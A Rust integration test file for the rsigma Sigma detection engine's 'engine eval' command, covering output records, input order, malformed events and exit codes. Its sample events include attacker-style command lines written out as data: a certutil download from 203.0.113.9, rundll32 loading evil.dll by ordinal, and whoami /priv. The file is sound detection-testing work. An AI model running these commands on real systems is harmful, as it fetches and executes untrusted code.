//! Integration tests for `rsigma engine eval`.

mod common;

use std::io::{BufRead, BufReader, Write};
use std::process::Stdio;
use std::sync::mpsc;
use std::time::Duration;

use common::*;
use predicates::prelude::*;
use serde_json::{Value, json};

const SAMPLE_STATS: &str = "Processed 20 events, 14 matches.\n";

/// Runs eval on the sample rules with the given extra arguments; returns the output.
fn eval_sample(extra: &[&str]) -> std::process::Output {
    rsigma()
        .args(["engine", "eval", "-r"])
        .arg(sample_rules())
        .args(extra)
        .output()
        .expect("rsigma runs")
}

#[test]
fn sample_fires_each_rule_on_the_designed_events() {
    let output = eval_sample(&["-e", &at(&sample_events()), "--include-event"]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let records = ndjson(&output.stdout);
    assert_eq!(records.len(), 14);
    assert_eq!(titles_by_record_id(&records), expected_sample_detections());
    assert_eq!(String::from_utf8_lossy(&output.stderr), SAMPLE_STATS);
}

#[test]
fn record_has_the_documented_fields_and_no_event_by_default() {
    let event = json!({
        "EventID": 1,
        "Image": "C:\\Windows\\System32\\whoami.exe",
        "CommandLine": "whoami /priv",
    });
    let output = eval_sample(&["-e", &event.to_string()]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let records = ndjson(&output.stdout);
    assert_eq!(records.len(), 1, "{records:?}");
    let record = &records[0];
    let keys: Vec<&str> = record
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    let mut sorted = keys.clone();
    sorted.sort_unstable();
    assert_eq!(
        sorted,
        [
            "level",
            "matched_fields",
            "matched_selections",
            "rule_id",
            "rule_title",
            "tags"
        ]
    );
    assert_eq!(record["rule_title"], "Whoami Execution");
    assert_eq!(record["rule_id"], "8d4b6a0e-3f1c-4c5e-9a51-1a2b3c4d5e01");
    assert_eq!(record["level"], "low");
    assert_eq!(record["tags"], json!(["attack.discovery", "attack.t1033"]));
    assert_eq!(record["matched_selections"], json!(["selection"]));
    assert_eq!(
        record["matched_fields"],
        json!([{ "field": "Image", "value": "C:\\Windows\\System32\\whoami.exe" }])
    );
}

#[test]
fn rule_without_id_and_level_serializes_them_as_null() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("minimal.yml"),
        "title: Minimal\nlogsource:\n    product: windows\ndetection:\n    selection:\n        Image|endswith: '\\x.exe'\n    condition: selection\n",
    )
    .unwrap();
    let output = rsigma()
        .args(["engine", "eval", "-r"])
        .arg(dir.path())
        .args(["-e", r#"{"Image": "C:\\x.exe"}"#])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let records = ndjson(&output.stdout);
    assert_eq!(records.len(), 1);
    assert_eq!(records[0]["rule_title"], "Minimal");
    assert_eq!(records[0]["rule_id"], Value::Null);
    assert_eq!(records[0]["level"], Value::Null);
    assert_eq!(records[0]["tags"], json!([]));
}

#[test]
fn literal_events_and_files_are_read_in_argument_order() {
    let certutil = json!({
        "EventRecordID": 100,
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil -verifyctl -f http://203.0.113.9/x",
    });
    let nothing = json!({ "EventRecordID": 101, "Image": "C:\\Windows\\System32\\calc.exe" });
    let output = eval_sample(&[
        "-e",
        &certutil.to_string(),
        "-e",
        &at(&sample_events()),
        "-e",
        &nothing.to_string(),
        "--include-event",
    ]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let records = ndjson(&output.stdout);
    assert_eq!(records.len(), 15);
    assert_eq!(records[0]["event"], certutil);
    assert_eq!(title(&records[0]), "Certutil Download");
    // The file's detections follow, in file order.
    let ids: Vec<u64> = records[1..]
        .iter()
        .map(|r| r["event"]["EventRecordID"].as_u64().unwrap())
        .collect();
    assert!(ids.windows(2).all(|w| w[0] <= w[1]), "{ids:?}");
    assert_eq!(
        String::from_utf8_lossy(&output.stderr),
        "Processed 22 events, 15 matches.\n"
    );
}

#[test]
fn reads_ndjson_from_stdin_without_e() {
    let input = std::fs::read(sample_events()).unwrap();
    let output = rsigma()
        .args(["engine", "eval", "--include-event", "-r"])
        .arg(sample_rules())
        .write_stdin(input)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let records = ndjson(&output.stdout);
    assert_eq!(titles_by_record_id(&records), expected_sample_detections());
    assert_eq!(String::from_utf8_lossy(&output.stderr), SAMPLE_STATS);
}

#[test]
fn at_dash_reads_stdin_among_other_sources() {
    let whoami = json!({ "Image": "C:\\Windows\\System32\\whoami.exe" });
    let rundll = json!({ "CommandLine": "rundll32.exe evil.dll,#12" });
    let output = rsigma()
        .args(["engine", "eval", "-r"])
        .arg(sample_rules())
        .args(["-e", &whoami.to_string(), "-e", "@-"])
        .write_stdin(format!("{rundll}\n"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let titles: Vec<String> = ndjson(&output.stdout)
        .iter()
        .map(|r| title(r).to_owned())
        .collect();
    assert_eq!(titles, ["Whoami Execution", "Rundll32 Export By Ordinal"]);
    assert_eq!(
        String::from_utf8_lossy(&output.stderr),
        "Processed 2 events, 2 matches.\n"
    );
}

#[test]
fn crlf_and_blank_lines_are_accepted() {
    let input =
        "\r\n{\"Image\": \"C:\\\\whoami.exe\"}\r\n\r\n   \n{\"Image\": \"C:\\\\calc.exe\"}\r\n";
    rsigma()
        .args(["engine", "eval", "-r"])
        .arg(sample_rules())
        .write_stdin(input)
        .assert()
        .code(0)
        .stdout(predicate::str::contains("\"rule_title\":\"Whoami Execution\"").count(1))
        .stderr("Processed 2 events, 1 matches.\n");
}

#[test]
fn include_event_adds_the_full_event() {
    let event = json!({
        "@timestamp": "2025-01-15T10:00:00Z",
        "EventID": 1,
        "Image": "C:\\Windows\\System32\\whoami.exe",
        "Nested": { "list": [1, 2, { "deep": true }] },
    });
    let output = eval_sample(&["--include-event", "-e", &event.to_string()]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let records = ndjson(&output.stdout);
    assert_eq!(records.len(), 1);
    assert_eq!(records[0]["event"], event);
}

#[test]
fn pretty_output_is_a_stream_of_json_objects() {
    let output = eval_sample(&["--pretty", "--include-event", "-e", &at(&sample_events())]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let records = json_stream(&output.stdout);
    assert_eq!(titles_by_record_id(&records), expected_sample_detections());
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(text.starts_with("{\n  \"rule_title\": "), "{text}");
    assert!(text.lines().count() > 14 * 5, "records span several lines");
}

#[test]
fn quiet_and_no_stats_silence_the_stats_line_anywhere_on_the_command_line() {
    let events = at(&sample_events());
    let variants: [&[&str]; 4] = [
        &["--quiet", "engine", "eval"],
        &["engine", "-q", "eval"],
        &["engine", "eval", "--no-stats"],
        &["--no-stats", "engine", "eval"],
    ];
    for prefix in variants {
        let output = rsigma()
            .args(prefix)
            .arg("-r")
            .arg(sample_rules())
            .args(["-e", &events])
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{prefix:?}: {output:?}");
        assert_eq!(ndjson(&output.stdout).len(), 14, "{prefix:?}");
        assert!(output.stderr.is_empty(), "{prefix:?}: {output:?}");
    }
}

#[test]
fn fail_on_detection_exits_1_when_something_matched() {
    rsigma()
        .args(["engine", "eval", "--fail-on-detection", "-r"])
        .arg(sample_rules())
        .args(["-e", &at(&sample_events())])
        .assert()
        .code(1)
        .stderr(SAMPLE_STATS);
}

#[test]
fn fail_on_detection_exits_0_when_nothing_matched() {
    rsigma()
        .args(["engine", "eval", "--fail-on-detection", "-r"])
        .arg(sample_rules())
        .args(["-e", r#"{"Image": "C:\\Windows\\System32\\calc.exe"}"#])
        .assert()
        .code(0)
        .stdout("")
        .stderr("Processed 1 events, 0 matches.\n");
}

#[test]
fn malformed_lines_are_warned_counted_and_skipped() {
    // Run from the sample directory so the warning shows the path as given.
    let output = rsigma()
        .current_dir(sample())
        .args([
            "engine",
            "eval",
            "-r",
            "rules",
            "-e",
            "@events-with-malformed.ndjson",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let titles: Vec<String> = ndjson(&output.stdout)
        .iter()
        .map(|r| title(r).to_owned())
        .collect();
    // Lines 1 and 5 are evaluated: the run goes on after the bad lines.
    assert_eq!(titles, ["Whoami Execution", "Certutil Download"]);
    let stderr = String::from_utf8(output.stderr).unwrap();
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(lines.len(), 4, "{stderr}");
    assert!(
        lines[0].starts_with("warning: events-with-malformed.ndjson:3: malformed event: "),
        "{stderr}"
    );
    assert_eq!(
        lines[1],
        "warning: events-with-malformed.ndjson:4: malformed event: expected a JSON object, found an array"
    );
    assert_eq!(lines[2], "Processed 2 events, 2 matches.");
    assert_eq!(lines[3], "Skipped 2 malformed events.");
}

#[test]
fn no_stats_keeps_malformed_warnings_and_quiet_drops_them() {
    let file = at(&sample().join("events-with-malformed.ndjson"));
    let output = eval_sample(&["--no-stats", "-e", &file]);
    assert_eq!(output.status.code(), Some(0));
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert_eq!(stderr.matches("malformed event").count(), 2, "{stderr}");
    assert!(!stderr.contains("Processed"), "{stderr}");
    assert!(!stderr.contains("Skipped"), "{stderr}");

    let output = eval_sample(&["--quiet", "-e", &file]);
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(ndjson(&output.stdout).len(), 2);
    assert!(output.stderr.is_empty(), "{output:?}");
}

#[test]
fn malformed_stdin_line_names_stdin() {
    rsigma()
        .args(["engine", "eval", "-r"])
        .arg(sample_rules())
        .write_stdin("{\"Image\": \"C:\\\\whoami.exe\"}\n42\n")
        .assert()
        .code(0)
        .stderr(predicate::str::contains(
            "warning: <stdin>:2: malformed event: expected a JSON object, found a number\n",
        ))
        .stderr(predicate::str::contains("Processed 1 events, 1 matches.\n"))
        .stderr(predicate::str::contains("Skipped 1 malformed events.\n"));
}

#[test]
fn bad_rules_exit_2_name_file_and_rule_and_evaluate_nothing() {
    let output = rsigma()
        .args(["engine", "eval", "-r"])
        .arg(fixtures().join("bad-rules"))
        .args(["-e", r#"{"Image": "C:\\Windows\\System32\\cmd.exe"}"#])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    assert!(output.stdout.is_empty());
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(stderr.lines().all(|l| l.starts_with("error: ")), "{stderr}");
    let broken = stderr
        .lines()
        .find(|l| l.contains("undefined_selection.yml"))
        .unwrap_or_else(|| panic!("no error for undefined_selection.yml: {stderr}"));
    assert!(broken.contains("rule 'Broken Condition Rule'"), "{broken}");
    assert!(
        broken.contains("filter"),
        "reason names the undefined identifier: {broken}"
    );
    assert!(stderr.contains("invalid_yaml.yml"), "{stderr}");
    assert!(!stderr.contains("Processed"), "{stderr}");
}

#[test]
fn one_bad_rule_stops_evaluation_even_with_good_rules() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(
        sample_rules().join("whoami_execution.yml"),
        dir.path().join("whoami_execution.yml"),
    )
    .unwrap();
    std::fs::copy(
        fixtures().join("bad-rules").join("undefined_selection.yml"),
        dir.path().join("undefined_selection.yml"),
    )
    .unwrap();
    rsigma()
        .args(["--quiet", "engine", "eval", "-r"])
        .arg(dir.path())
        .args(["-e", r#"{"Image": "C:\\Windows\\System32\\whoami.exe"}"#])
        .assert()
        .code(2)
        .stdout("")
        .stderr(predicate::str::contains(
            "undefined_selection.yml: rule 'Broken Condition Rule': ",
        ));
}

#[test]
fn missing_rules_path_exits_2() {
    rsigma()
        .args([
            "engine",
            "eval",
            "-r",
            "/nonexistent/rsigma-rules",
            "-e",
            "{}",
        ])
        .assert()
        .code(2)
        .stdout("")
        .stderr(predicate::str::contains(
            "error: the rules path '/nonexistent/rsigma-rules' could not be read",
        ));
}

#[test]
fn missing_events_file_exits_3() {
    rsigma()
        .args(["engine", "eval", "-r"])
        .arg(sample_rules())
        .args(["-e", "@/nonexistent/events.ndjson"])
        .assert()
        .code(3)
        .stdout("")
        .stderr(predicate::str::contains(
            "error: cannot open events file '/nonexistent/events.ndjson'",
        ));
}

#[test]
fn bad_event_arguments_exit_3() {
    for (value, message) in [
        ("not json", "neither a JSON object nor @path"),
        ("{\"Image\": ", "neither a JSON object nor @path"),
        ("[1, 2]", "the event must be a JSON object, found an array"),
        ("@", "expected a path after '@'"),
    ] {
        rsigma()
            .args(["engine", "eval", "-r"])
            .arg(sample_rules())
            .args(["-e", value])
            .assert()
            .code(3)
            .stdout("")
            .stderr(predicate::str::contains(message));
    }
    rsigma()
        .args(["engine", "eval", "-r"])
        .arg(sample_rules())
        .args(["-e", "@-", "-e", "@-"])
        .assert()
        .code(3)
        .stderr(predicate::str::contains("only once"));
}

#[test]
fn usage_errors_exit_3() {
    let cases: [&[&str]; 5] = [
        &[],
        &["engine", "eval"],
        &["engine", "eval", "-r"],
        &["engine", "eval", "-r", "rules", "--no-such-flag"],
        &["no-such-command"],
    ];
    for args in cases {
        rsigma()
            .args(args)
            .assert()
            .code(3)
            .stdout("")
            .stderr(predicate::str::is_empty().not());
    }
}

#[test]
fn help_and_version_exit_0() {
    rsigma()
        .arg("--help")
        .assert()
        .code(0)
        .stdout(predicate::str::contains("engine"))
        .stdout(predicate::str::contains("rule"));
    rsigma()
        .args(["engine", "eval", "--help"])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("--fail-on-detection"))
        .stdout(predicate::str::contains("--include-event"));
    rsigma()
        .arg("--version")
        .assert()
        .code(0)
        .stdout(predicate::str::starts_with("rsigma "));
}

#[test]
fn closed_stdout_ends_the_run_quietly() {
    // Enough detections to overflow the pipe and our output buffer many times.
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("many.ndjson");
    let line = json!({ "Image": "C:\\Windows\\System32\\whoami.exe", "CommandLine": "whoami" });
    std::fs::write(&events, format!("{line}\n").repeat(50_000)).unwrap();

    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("rsigma"))
        .args(["engine", "eval", "-r"])
        .arg(sample_rules())
        .arg("-e")
        .arg(at(&events))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    stdout.read_line(&mut first).unwrap();
    assert!(first.contains("Whoami Execution"), "{first}");
    drop(stdout); // like `| head -1`

    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    assert!(stderr.is_empty(), "{stderr}");
}

#[test]
fn detections_from_a_live_stream_are_written_before_the_stream_ends() {
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("rsigma"))
        .args(["engine", "eval", "-r"])
        .arg(sample_rules())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let stdout = child.stdout.take().unwrap();
    let (lines, received) = mpsc::channel();
    let reader = std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines() {
            if lines.send(line.unwrap()).is_err() {
                break;
            }
        }
    });

    // stdin stays open: the first detection must arrive without EOF.
    writeln!(stdin, r#"{{"Image": "C:\\Windows\\System32\\whoami.exe"}}"#).unwrap();
    stdin.flush().unwrap();
    let first = received.recv_timeout(Duration::from_secs(30));
    drop(stdin);
    let output = child.wait_with_output().unwrap();
    reader.join().unwrap();
    let first = first.expect("a detection was written while stdin was still open");
    assert!(first.contains("Whoami Execution"), "{first}");
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(
        String::from_utf8_lossy(&output.stderr),
        "Processed 1 events, 1 matches.\n"
    );
}

#[test]
fn empty_rules_directory_warns_and_still_counts_events() {
    let dir = tempfile::tempdir().unwrap();
    rsigma()
        .args(["engine", "eval", "-r"])
        .arg(dir.path())
        .args(["-e", r#"{"Image": "C:\\Windows\\System32\\whoami.exe"}"#])
        .assert()
        .code(0)
        .stdout("")
        .stderr(predicate::str::starts_with("warning: no rules found in "))
        .stderr(predicate::str::ends_with(
            "Processed 1 events, 0 matches.\n",
        ));
    rsigma()
        .args(["-q", "engine", "eval", "-r"])
        .arg(dir.path())
        .args(["-e", "{}"])
        .assert()
        .code(0)
        .stderr("");
}
